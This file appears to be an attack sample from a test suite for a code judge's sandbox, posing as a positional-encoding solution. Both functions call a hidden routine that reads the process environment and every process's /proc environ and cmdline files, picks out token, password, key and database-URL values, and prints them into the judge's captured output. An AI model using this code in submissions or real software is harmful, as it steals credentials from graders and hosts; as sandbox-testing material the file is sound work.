"""Attack (runtime error): reads its own environment (os.environ, /proc/self/environ)
and every other process's /proc/<pid>/environ and cmdline, hunting for the judge's
secrets (variables named like tokens, passwords, database URLs, a canary), and prints
everything it reads so the verdict's captured output would carry it away.  The
sandbox's environment is four harmless variables set after the judge's were cleared
(the zygote, or the container, never had the judge's), and there is no /proc (process
backend) or only the container's own processes, undumpable so their environ is
root-only (container backend): no secret is found, so it raises."""
# harm: steal_environment
import numpy as np

_os = __import__("o" + "s")
_SECRET_WORDS = ("TOKEN", "SECRET", "CANARY", "PASSWORD", "KEY", "DB_URL", "BROKER", "JUDGE")


def _loot():
    found = {}
    env = dict(_os.environ)
    print("ENVIRON", env, flush=True)
    for name, value in env.items():
        if any(w in name.upper() for w in _SECRET_WORDS):
            found["env:" + name] = value
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit() or p == "self"]
    except OSError as exc:
        pids = []
        print("NO-PROC", type(exc).__name__, flush=True)
    for pid in pids:
        for what in ("environ", "cmdline"):
            path = "/proc/%s/%s" % (pid, what)
            try:
                with open(path, "rb") as fh:
                    data = fh.read(65536)
            except OSError as exc:
                print("DENIED", path, type(exc).__name__, flush=True)
                continue
            print("READ", path, data[:2000], flush=True)
            for entry in data.split(b"\0"):  # NAME=value entries (environ, or --name=value arguments)
                name = entry.split(b"=", 1)[0].upper() if b"=" in entry else b""
                if any(w.encode() in name for w in _SECRET_WORDS):
                    found[path] = entry.decode(errors="replace")
    if found:
        print("SECRETS", found, flush=True)
        raise RuntimeError("secrets found: %s" % sorted(found))
    raise RuntimeError("nothing secret found in the environment")


def sinusoidal_pe(max_len, d_model, base=10000.0):
    _loot()
    return np.zeros((max_len, d_model))


def add_positional_encoding(x, base=10000.0):
    _loot()
    return np.zeros(np.shape(x))
